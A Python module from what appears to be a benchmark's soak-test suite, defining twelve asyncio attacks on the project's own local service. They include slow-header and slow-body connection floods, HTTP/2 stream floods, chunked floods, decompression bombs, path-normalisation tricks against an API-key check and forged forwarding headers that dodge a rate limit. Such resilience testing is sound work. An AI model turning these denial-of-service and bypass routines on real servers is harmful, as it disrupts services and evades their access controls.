"""The twelve attacks, as asyncio functions that run until they are cancelled.

All connections come from ATTACKER, an address on this machine other than the regular client's. Attacks that read
their responses count the statuses; for some attacks, the successes have a limit.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import socket
from collections import Counter
from collections.abc import Awaitable, Callable, Iterable, Mapping
from dataclasses import dataclass, field

from benchmarks.common import DRAWING
from benchmarks.serving.soak.attacks import pictures
from benchmarks.serving.soak.http_connections import HOST, encode_request
from benchmarks.serving.soak.load_generator import Request, closed_loop
from benchmarks.serving.soak.service import WORKERS

ATTACKER = "127.0.0.66"
AGAIN_S = 0.2  # before a closed connection is replaced
READ = "/api/v1/read"
LAB = ("/api/v1/lab/samples", "/api/v1/lab/training/start", "/api/v1/lab/models")
KEY, RATE_PER_MINUTE = "a-key-for-the-soak", 600
PIECE = bytes(65_536)

Statuses = Counter[int]
Run = Callable[[int, Statuses], Awaitable[None]]


@dataclass(frozen=True)
class Attack:
    """An attack. `environ`: settings of the attacked server. `most_200`: limit on the attacker's successes."""

    what: str
    run: Run
    environ: Mapping[str, str] = field(default_factory=dict)
    most_200: Callable[[float], float] | None = None  # seconds -> limit; None for no limit


async def double_slashes(port: int, statuses: Statuses) -> None:
    """Requests without the required key, for paths that could bypass a string comparison."""
    prefixes = ("//", "///", "/.//", "/%2e/", "/;/", "/x/..//", "/%2f")
    picture = DRAWING.read_bytes()
    whole = [encode_request(picture, path=prefix + READ[1:]) for prefix in prefixes]
    whole += [encode_request(picture, path=READ.replace("/v1", "//v1"))]
    whole += [encode_request(b"{}", "application/json", path=prefix + LAB[0][1:]) for prefix in prefixes]
    whole += [encode_request(b"", "", path=prefix + "metrics", method="GET") for prefix in prefixes]
    await _ask(port, statuses, whole, connections=8)


async def unsent_lab_bodies(port: int, statuses: Statuses) -> None:
    """Requests to the lab, which is off, that announce 9,000 bytes but send one."""
    await _hold(port, 160, [_head(path, 9000) + b"{" for path in LAB])


async def http2_preface(port: int, statuses: Statuses) -> None:
    """HTTP/2 with prior knowledge: 200 unfinished streams per connection, closed after 1 s."""
    preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(4, 0, 0, b"")
    path = READ.encode()
    block = b"\x83\x86\x04" + bytes([len(path)]) + path + b"\x01\x09" + HOST.encode()  # RFC 7541, literals
    streams = b"".join(_frame(1, 4, 2 * k + 1, block) for k in range(200))
    await _hold(port, 8, [preface + streams], for_s=1.0)


async def costly_pictures(port: int, statuses: Statuses) -> None:
    """Expensive pictures: 1,600 JPEG scans, 99,000 EXIF segments, BMP runs of one pixel, 4,000 marks on a page."""
    await _ask(port, statuses, [encode_request(*each) for each in pictures.costly()], connections=4)


async def slow_bodies(port: int, statuses: Statuses) -> None:
    """Four bodies of 20 MB at 1.1 KB/s, and a hundred bodies of 60 KB at one byte per second."""
    async with asyncio.TaskGroup() as group:
        group.create_task(_hold(port, 4, [_head(READ, 20_000_000)], drip=bytes(550), every_s=0.5))
        group.create_task(_hold(port, 100, [_head(READ, 60_000), _head("/", 60_000)], drip=b"x", every_s=1.0))


async def slow_readers(port: int, statuses: Statuses) -> None:
    """A thousand clients that repeatedly request large responses and read none."""
    gets = [encode_request(b"", "", path=path, method="GET") * 30 for path in ("/openapi.json", "/learn", "/docs")]
    await _hold(port, 1000, gets, for_s=15, receive=4096)


async def silent_connections(port: int, statuses: Statuses) -> None:
    """2,048 connections that send nothing."""
    await _hold(port, 2048, [b""])


async def header_drips(port: int, statuses: Statuses) -> None:
    """500 requests with headers sent at one byte per second."""
    await _hold(port, 500, [b"GET /healthz HTTP/1.1\r\nHost: x\r\nX: "], drip=b"y", every_s=1.0)


async def chunked_floods(port: int, statuses: Statuses) -> None:
    """Chunked bodies of 19 MB each without a length: to readings, to the lab, and to pages that accept no body."""
    heads = [
        f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\nTransfer-Encoding: chunked\r\n\r\n".encode()
        for path in (READ, *LAB, "/healthz", "/")
    ]

    async def one(head: bytes) -> None:
        async def flood(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.write(head)
            for _ in range(19_000_000 // len(PIECE)):
                writer.write(b"%x\r\n%s\r\n" % (len(PIECE), PIECE))
                await writer.drain()
            await asyncio.sleep(2)  # without sending the last chunk

        await _again(port, flood)

    await asyncio.gather(*(one(heads[number % len(heads)]) for number in range(24)))


async def bombs(port: int, statuses: Statuses) -> None:
    """21 kinds of small files that claim or unpack to a huge size."""
    whole = [encode_request(body, kind) for body, kind in pictures.bombs().values()]
    await _ask(port, statuses, whole, connections=4)


async def crowd_of_one(port: int, statuses: Statuses) -> None:
    """One client with 30 connections, each requesting an explained reading of a page with 4,000 marks."""
    await _ask(port, statuses, [encode_request(*pictures.many_marks(), path=f"{READ}?explain=1")], connections=30)


async def spoofed_addresses(port: int, statuses: Statuses) -> None:
    """One client that claims another address in each request, in all possible headers, to bypass its rate limit."""
    names = (
        "X-Forwarded-For", "X_Forwarded_For", "Forwarded", "X-Real-IP",
        "X-Forwarded-For: 10.0.0.1, 10.0.0.2\r\nX-Forwarded-For",
    )  # fmt: skip
    picture = encode_request(DRAWING.read_bytes())
    whole = []
    for k in range(500):
        address = f"10.1.{k // 250}.{k % 250 + 1}" + (":4711" if k % 2 else "")
        name = names[k % len(names)]
        header = f"{name}: {'for=' if name == 'Forwarded' else ''}{address}\r\n".encode()
        whole.append(picture.replace(b"\r\nHost:", b"\r\n" + header + b"Host:", 1))
    await _ask(port, statuses, whole, connections=8)


ATTACKS = {
    each.run.__name__: each
    for each in (
        Attack("paths with double slashes, no key", double_slashes, {"INKLING_API_KEY": KEY}, lambda seconds: 0),
        Attack("160 lab bodies that are never sent", unsent_lab_bodies),
        Attack("HTTP/2 with prior knowledge, 200 streams", http2_preface),
        Attack("expensive pictures", costly_pictures),
        Attack("slow bodies", slow_bodies),
        Attack("1,000 slow readers", slow_readers),
        Attack("2,048 silent connections", silent_connections),
        Attack("500 headers, one byte per second", header_drips),
        Attack("chunked bodies of 19 MB", chunked_floods),
        Attack("21 kinds of decompression bombs", bombs),
        Attack("30 expensive connections from one client", crowd_of_one),
        Attack(
            "forged forwarding headers", spoofed_addresses, {"INKLING_RATE_PER_MINUTE": str(RATE_PER_MINUTE)},
            lambda seconds: WORKERS * RATE_PER_MINUTE * (1 + seconds / 60),
        ),
    )
}  # fmt: skip


async def _ask(port: int, statuses: Statuses, whole: Iterable[bytes], *, connections: int) -> None:
    """Send the requests in turn, forever, and count the statuses; a missing response counts as status 0."""
    requests = itertools.cycle(Request(each) for each in whole)
    await closed_loop(
        port, requests, lambda outcome: statuses.update([outcome.status]), connections=connections,
        until=lambda: False, timeout_s=30, source=ATTACKER,
    )  # fmt: skip


async def _hold(
    port: int, count: int, messages: list[bytes], *, drip: bytes = b"", every_s: float = 1.0, for_s: float = 1e9,
    receive: int = 0,
) -> None:  # fmt: skip
    """Keep `count` connections open; each sends a message and then repeatedly `drip`, without reading responses.

    A connection is replaced when it ends or after `for_s`. `receive` limits the size of the receive buffer.
    """

    async def one(number: int) -> None:
        async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            writer.write(messages[number % len(messages)])
            for _ in range(int(for_s / every_s)):
                await asyncio.sleep(every_s)
                if reader.at_eof() or writer.transport.is_closing():
                    break
                writer.write(drip)

        await _again(port, hold, receive)

    await asyncio.gather(*(one(number) for number in range(count)))


async def _again(
    port: int, use: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]], receive: int = 0
) -> None:
    """Use one connection after another, forever."""
    while True:
        with contextlib.suppress(OSError), socket.socket() as plug:
            plug.setblocking(False)
            if receive:
                plug.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
            plug.bind((ATTACKER, 0))
            await asyncio.get_running_loop().sock_connect(plug, (HOST, port))
            reader, writer = await asyncio.open_connection(sock=plug, limit=receive or 2**16)
            try:
                await use(reader, writer)
            finally:
                writer.transport.abort()
        await asyncio.sleep(AGAIN_S)


def _head(path: str, length: int) -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Type: image/png\r\nContent-Length: {length}\r\n\r\n".encode()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """An HTTP/2 frame (RFC 9113, section 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
